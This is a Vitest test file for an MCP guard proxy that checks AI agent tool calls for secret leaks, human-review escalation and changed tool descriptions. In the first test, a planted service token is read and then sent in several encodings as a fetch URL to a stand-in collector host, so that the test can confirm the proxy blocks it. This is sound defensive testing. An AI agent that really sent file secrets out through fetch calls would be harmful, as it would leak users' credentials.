// MCP proxy: real SDK clients and servers behind `mesh guard mcp`.
import { randomBytes } from 'node:crypto';
import {
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ReviewQueue } from '../../../guard/review/review-queue.js';
import { runMesh } from '../../support/run-mesh.js';
import { ENCODINGS } from '../flow/encodings.js';
import {
  fetchServer as fetchLogging,
  fsServer as serverOver,
  proxied,
  text,
  proxyFlags,
} from './proxy-client.js';

const PACK = {
  pack_format: 1,
  name: 'mcp-test',
  version: '1.0.0',
  licence: 'Apache-2.0',
  description: 'rules the MCP proxy tests rely on',
  catalog: ['m.list-dir', 'm.blocked-resource'],
  policy: {
    format: 1,
    rules: [
      {
        id: 'm.list-dir',
        verdict: 'escalate',
        phase: 'call',
        tools: ['mcp__*__list_dir'],
        when: { field: 'tool', glob: 'mcp__*__list_dir' },
        reason: 'listing needs a human',
      },
      {
        id: 'm.blocked-resource',
        verdict: 'block',
        phase: 'call',
        tools: ['resources/read'],
        when: { field: 'args.uri', glob: 'file:///private*' },
        reason: 'private resource',
      },
    ],
  },
};

let home: string;
let root: string;
let pack: string;
let fetchLog: string;
const secret = randomBytes(24).toString('base64url');

beforeAll(() => {
  home = mkdtempSync(join(tmpdir(), 'mesh-mcp-'));
  root = join(home, 'files');
  mkdirSync(join(root, 'config'), { recursive: true });
  writeFileSync(join(root, 'README.md'), '# project\nordinary text\n');
  writeFileSync(join(root, 'config', 'db-secrets.txt'), `SERVICE_TOKEN=${secret}\nMODE=dev\n`);
  writeFileSync(join(root, 'private.txt'), 'not for agents');
  pack = join(home, 'pack.json');
  writeFileSync(pack, JSON.stringify(PACK));
  fetchLog = join(home, 'fetch.log');
});
afterAll(() => {
  rmSync(home, { recursive: true, force: true });
});

const flags = (session: string, extra: string[] = []): string[] => proxyFlags(pack, session, extra);
const fsServer = (): string[] => serverOver(root);
const fetchServer = (): string[] => fetchLogging(fetchLog);

describe('mesh guard mcp', () => {
  it("blocks a file's secret leaving through a later fetch call in every supported encoding; ordinary traffic passes", async () => {
    const fs = await proxied(home, flags('exfil'), fsServer());
    const net = await proxied(home, flags('exfil'), fetchServer());
    try {
      let cursor: string | undefined;
      const names: string[] = [];
      do {
        const page = await fs.client.listTools(cursor === undefined ? {} : { cursor });
        names.push(...page.tools.map((t) => t.name));
        cursor = page.nextCursor;
      } while (cursor !== undefined);
      expect(names).toEqual(['read_file', 'list_dir', 'ask_model']);
      expect(
        text(await fs.client.callTool({ name: 'read_file', arguments: { path: 'README.md' } })),
      ).toMatch(/ordinary text/);
      const ok = await net.client.callTool({
        name: 'fetch',
        arguments: { url: 'https://docs.example.test/guide?page=2' },
      });
      expect(text(ok)).toMatch(/200 OK/);
      const read = await fs.client.callTool({
        name: 'read_file',
        arguments: { path: 'config/db-secrets.txt' },
      });
      expect(read.isError).not.toBe(true);
      for (const [name, encode] of Object.entries(ENCODINGS)) {
        const leaked = encode(Buffer.from(secret)).toString('latin1');
        const r = await net.client.callTool({
          name: 'fetch',
          arguments: { url: `https://collector.test/c?d=${encodeURIComponent(leaked)}` },
        });
        expect([name, r.isError]).toEqual([name, true]);
        expect(text(r)).toMatch(/flow\.sensitive-egress.*\[args\.url\]/);
      }
      const log = readFileSync(fetchLog, 'utf8');
      expect(log).toMatch(/docs\.example\.test/);
      expect(log).not.toMatch(/collector\.test/);
    } finally {
      await fs.close();
      await net.close();
    }
  }, 300_000);

  it('guards resources/read and the server’s sampling requests', async () => {
    const secretFile = join(home, 'secrets.txt');
    const registered = randomBytes(20).toString('hex');
    writeFileSync(secretFile, `${registered}\n`);
    const fs = await proxied(home, flags('sampling', ['--secret-file', secretFile]), fsServer());
    try {
      await expect(fs.client.readResource({ uri: 'file:///private.txt' })).rejects.toThrow(
        /m\.blocked-resource/,
      );
      expect(
        (await fs.client.readResource({ uri: 'file:///README.md' })).contents[0],
      ).toMatchObject({ text: expect.stringMatching(/project/) as unknown });
      expect(
        text(
          await fs.client.callTool({
            name: 'ask_model',
            arguments: { question: 'what is six times seven?' },
          }),
        ),
      ).toMatch(/forty-two/);
      const direct = await fs.client.callTool({
        name: 'ask_model',
        arguments: { question: `remember ${registered}` },
      });
      expect(text(direct)).toMatch(
        /blocked by mesh guard \(flow\.secret-egress\).*\[args\.question\]/,
      );
      writeFileSync(join(root, 'notes.txt'), `deploy with ${registered}\n`);
      const viaSampling = await fs.client.callTool({
        name: 'ask_model',
        arguments: { path: 'notes.txt' },
      });
      expect(text(viaSampling)).toMatch(/sampling refused.*flow\.secret-egress/);
    } finally {
      await fs.close();
    }
  }, 120_000);

  it('holds an escalated call until its review is approved, and refuses it when nobody answers', async () => {
    const fs = await proxied(home, flags('review', ['--review-timeout', '60']), fsServer());
    const q = ReviewQueue.open(join(home, 'guard'));
    try {
      const approver = setInterval(() => {
        for (const r of q.list('pending'))
          if (r.tool === 'mcp__fs-fixture__list_dir') q.decide(r.id, 'approved', 'tester');
      }, 100);
      const r = await fs.client.callTool({ name: 'list_dir', arguments: { path: '.' } });
      clearInterval(approver);
      expect(text(r)).toMatch(/README\.md/);
    } finally {
      q.close();
      await fs.close();
    }
    const quick = await proxied(
      home,
      flags('review-timeout', ['--review-timeout', '1']),
      fsServer(),
    );
    try {
      const r = await quick.client.callTool({ name: 'list_dir', arguments: { path: '.' } });
      expect(r.isError).toBe(true);
      expect(text(r)).toMatch(/no approval within/);
    } finally {
      await quick.close();
    }
  }, 120_000);

  it('refuses a server whose tool descriptions changed since admission until it is re-admitted', async () => {
    const first = await proxied(home, flags('drift'), fsServer());
    await first.close();
    const changed = {
      MESH_TEST_DESCRIPTION: 'Read a file under the root, with line numbers',
    };
    const drifted = await proxied(home, flags('drift'), fsServer(), changed);
    try {
      const r = drifted.client.callTool({ name: 'read_file', arguments: { path: 'README.md' } });
      await expect(r).rejects.toThrow(/surface changed.*read_file/);
    } finally {
      await drifted.close();
    }
    const admit = await runMesh(['guard', 'mcp', 'admit', '--json', '--', ...fsServer()], {
      env: { MESH_HOME: home, ...changed },
    });
    expect(admit.code).toBe(0);
    expect((JSON.parse(admit.stdout) as { tools: string[] }).tools).toEqual([
      'ask_model',
      'list_dir',
      'read_file',
    ]);
    const again = await proxied(home, flags('drift'), fsServer(), changed);
    try {
      expect(
        text(await again.client.callTool({ name: 'read_file', arguments: { path: 'README.md' } })),
      ).toMatch(/ordinary/);
    } finally {
      await again.close();
    }
  }, 120_000);

  it('keeps admissions durable and private (one 0600 file per server command)', () => {
    const dir = join(home, 'guard', 'mcp-admissions');
    const files = readdirSync(dir);
    expect(files.length).toBeGreaterThanOrEqual(2);
    for (const f of files) {
      expect(statSync(join(dir, f)).mode & 0o777).toBe(0o600);
      expect((JSON.parse(readFileSync(join(dir, f), 'utf8')) as { schema: number }).schema).toBe(1);
    }
  });
});
